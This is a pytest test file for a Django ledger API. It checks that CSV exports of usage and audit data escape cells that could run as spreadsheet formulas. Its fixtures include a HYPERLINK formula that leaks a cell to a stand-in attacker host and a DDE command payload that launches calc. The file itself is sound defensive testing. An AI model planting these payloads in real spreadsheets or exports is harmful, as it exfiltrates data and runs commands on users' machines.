"""CSV exports cannot carry a formula into a spreadsheet (docs/security.md "CSV exports"): a text
cell that begins with = + - @, a tab or a carriage return is written with a leading '."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client

from console.api.csvcells import text_cell
from ledger.tenancy.services import create_key
from tests.conftest import ev, started

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(DANGEROUS), row


@pytest.mark.django_db
def test_usage_csv_escapes_names_an_ingest_key_chose(workspace) -> None:
    _, key = create_key(workspace=workspace, scopes=["ingest", "read"])
    api = Client(HTTP_AUTHORIZATION=f"Bearer {key}")
    events = [
        started(workflow=FORMULA),
        ev(
            "harness.model.responded",
            turn=1,
            callId="m1",
            model={"provider": FORMULA, "modelId": "+cmd|' /C calc'!A0"},
            response={"text": "hi", "usage": {"inputTokens": 10, "outputTokens": 5}},
        ),
        ev(
            "harness.model.responded",
            turn=2,
            callId="m2",
            model={"provider": "@SUM(1+1)", "modelId": "m"},
            response={"text": "hi", "usage": {"inputTokens": 1, "outputTokens": 1}},
        ),
    ]
    assert (
        api.post("/api/v1/runs/run_csv/events", {"events": events}, content_type="application/json").status_code == 200
    )

    by_model = _cells(api.get("/api/v1/usage?groupBy=model&format=csv").content.decode())
    _no_formula(by_model)
    keys = [row[0] for row in by_model[1:]]
    assert keys == ["'" + FORMULA + "/+cmd|' /C calc'!A0", "'@SUM(1+1)/m"]
    assert by_model[1][1:3] == ["10", "5"]  # the numbers are untouched
    # The JSON answer is the data as recorded: escaping is the CSV's alone.
    assert api.get("/api/v1/usage?groupBy=model").json()["rows"][0]["key"] == FORMULA + "/+cmd|' /C calc'!A0"

    by_workflow = _cells(api.get("/api/v1/usage?groupBy=workflow&format=csv").content.decode())
    _no_formula(by_workflow)
    assert by_workflow[1][0] == "'" + FORMULA


@pytest.mark.django_db
def test_audit_csv_escapes_a_reason_a_key_gave(workspace, admin, client: Client) -> None:
    _, key = create_key(workspace=workspace, scopes=["ingest", "read", "execute"])
    api = Client(HTTP_AUTHORIZATION=f"Bearer {key}")
    assert (
        api.post("/api/v1/runs/run_csv/events", {"events": [started()]}, content_type="application/json").status_code
        == 200
    )
    for reason in (FORMULA, "-1+1", "@A1", "+A1"):
        response = api.post(
            "/api/v1/runs/run_csv/reexecutions", {"mode": "simulate", "reason": reason}, content_type="application/json"
        )
        assert response.status_code == 201, response.content
    client.force_login(admin)
    rows = _cells(client.get("/api/v1/audit?format=csv").content.decode())
    _no_formula(rows)
    reasons = [row[7] for row in rows[1:] if row[3] == "reexecution.requested"]
    assert sorted(reasons) == sorted(["'" + FORMULA, "'-1+1", "'@A1", "'+A1"])


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("openai/gpt-4o", "openai/gpt-4o"),
        ("2026-11-30", "2026-11-30"),
        ("a=1", "a=1"),
        ("", ""),
    ],
)
def test_a_text_cell_that_could_be_a_formula_gets_a_quote(value: str, written: str) -> None:
    assert text_cell(value) == written
